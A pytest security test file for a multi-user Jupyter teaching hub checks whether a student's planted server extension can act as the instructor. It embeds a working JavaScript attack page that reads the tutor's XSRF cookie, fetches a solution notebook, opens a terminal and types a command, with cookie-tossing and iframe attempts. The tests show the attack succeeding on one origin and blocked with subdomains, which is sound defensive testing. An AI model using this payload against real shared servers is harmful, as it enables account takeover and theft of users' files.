"""A student's server shows a page that acts as the instructor who opens it: on one origin, and with subdomains."""

import json
import shutil

import pytest

from .conftest import Desk, Hub, free_port, running_hub

pytestmark = [pytest.mark.slow, pytest.mark.timeout(1500)]

EXTENSION = """
from pathlib import Path
from tornado.web import RequestHandler

class Page(RequestHandler):
    def get(self):
        self.write(Path(__file__).with_name("page.html").read_text())

def _load_jupyter_server_extension(app):
    app.web_app.add_handlers(".*", [(app.base_url + "homework", Page)])
"""
ENABLE = """
import sys
sys.path.insert(0, {folder!r})
c = get_config()
c.ServerApp.jpserver_extensions = {{"homework": True}}
"""

# Opened and clicked on, it opens the tutor's server in a window, where it reads the cookie with the token. With it, it
# fetches a solution, opens a terminal and types a command. It also tries what needs no answer, with a token of its own,
# and a frame.
PAGE = r"""
<!doctype html><title>homework</title><body><button>Show my plot</button><script>
const victim = "VICTIM", done = {};
const attempt = async (name, action) => {
    try { done[name] = await action() } catch (error) { done[name] = error.name || String(error) }
};
const sleep = seconds => new Promise(resolve => setTimeout(resolve, 1000 * seconds));
document.querySelector("button").onclick = async () => {
    const popup = window.open(victim + "/api/status");
    let token = "none";
    await attempt("token", async () => {
        for (let i = 0; i < 600 && token === "none"; i++) {
            await sleep(0.1);
            token = (popup.document.cookie.match(/_xsrf=([^;]+)/) || [0, "none"])[1];
        }
        return token === "none" ? token : "read";
    });
    const options = {credentials: "include", headers: {"X-XSRFToken": token}};
    await attempt("solution", async () => {
        const answer = await fetch(victim + "/api/contents/solutions/01-sigmoid/sigmoid.ipynb", options);
        return (await answer.text()).includes("BEGIN SOLUTION") ? "read" : answer.status;
    });
    await attempt("terminal", async () => {
        const answer = await fetch(victim + "/api/terminals", {method: "POST", ...options});
        done.name = (await answer.json()).name;
        return "opened";
    });
    await attempt("blind", async () => {
        document.cookie = "_xsrf=mine; domain=" + location.hostname.replace(/^[^.]*[.]/, "") + "; path=/";
        await fetch(victim + "/api/terminals?_xsrf=mine", {method: "POST", mode: "no-cors", credentials: "include"});
        return "sent";
    });
    await attempt("command", () => new Promise((resolve, reject) => {
        const socket = new WebSocket(victim.replace("http", "ws") + "/terminals/websocket/" + (done.name || 1));
        socket.onerror = () => reject("refused");
        let shown = "", typed = false;
        socket.onmessage = event => {
            shown += JSON.parse(event.data)[1];
            if (!typed) socket.send(JSON.stringify(["stdin", "id -un > ~/taken; sync; echo all' 'done\r"]));
            typed = true;
            if (shown.includes("all done")) resolve("typed");
        };
    }));
    await attempt("frame", () => new Promise(resolve => {
        const frame = document.createElement("iframe");
        frame.onload = () => resolve(frame.contentDocument ? "read" : "blocked");
        frame.src = victim + "/lab";
        document.body.append(frame);
    }));
    document.title = "done " + JSON.stringify(done);
};
</script>
"""


@pytest.mark.attack("the hub")
def test_on_one_origin_a_page_of_a_student_acts_as_the_instructor(accounts, hub, browser, tmp_path):
    """The hub refuses this configuration. The test shows that the attack reaches its target."""
    danger = "c.LectrainHub.one_origin_lets_students_act_as_instructors = True"
    with running_hub(accounts, tmp_path, free_port(), extra=danger) as one_origin:
        done, _, taken = attack(one_origin, browser)
    assert [done[name] for name in ("token", "solution", "terminal", "command")] == ["read", "read", "opened", "typed"]
    assert taken == hub.accounts["tutor"]


@pytest.mark.attack("the hub")
def test_with_an_address_for_each_server_the_same_page_is_blocked(hub, browser):
    done, statuses, taken = attack(hub, browser)
    assert done == {
        "token": "SecurityError",
        "solution": "TypeError",  # the browser does not give the answer to the page
        "terminal": "TypeError",
        "blind": "sent",
        "command": "refused",
        "frame": "blocked",
    }
    assert statuses["/api/status"] == 200, "the tutor is logged in, so there was something to take"
    assert statuses["/api/terminals?_xsrf=mine"] == 403, "the blind request arrived with the tutor's cookies"
    assert not taken


def attack(hub: Hub, browser) -> tuple[dict[str, str], dict[str, int], str]:
    """Let the tutor open Mallory's page and click on it.

    Return what the page's script reports, what the tutor's server answered, and the account that executed the command
    in the terminal, if any.
    """
    home, taken = hub.home("mallory"), hub.home("tutor") / "taken"
    victim, folder, settings = hub.server("tutor"), home / "attack", home / ".jupyter" / "jupyter_server_config.py"
    taken.unlink(missing_ok=True)
    folder.mkdir()
    (folder / "homework.py").write_text(EXTENSION)
    (folder / "page.html").write_text(PAGE.replace("VICTIM", victim))
    settings.parent.mkdir(exist_ok=True)
    settings.write_text(ENABLE.format(folder=str(folder)))
    shutil.chown(settings.parent, hub.accounts["mallory"])
    desks = [Desk(browser, hub, who) for who in ("mallory", "tutor")]
    try:
        for desk in desks:
            desk.start_server()
        statuses: dict[str, int] = {}
        page = desks[1].page
        page.context.on("response", lambda answer: statuses.update({answer.url.removeprefix(victim): answer.status}))
        page.goto(f"{hub.server('mallory')}/homework")
        page.get_by_role("button").click()
        page.wait_for_function("document.title.startsWith('done')")
        done = json.loads(page.title().removeprefix("done "))
        return done, statuses, taken.read_text().strip() if taken.exists() else ""
    finally:
        settings.unlink()
        shutil.rmtree(folder)
        for desk in desks:
            desk.close()
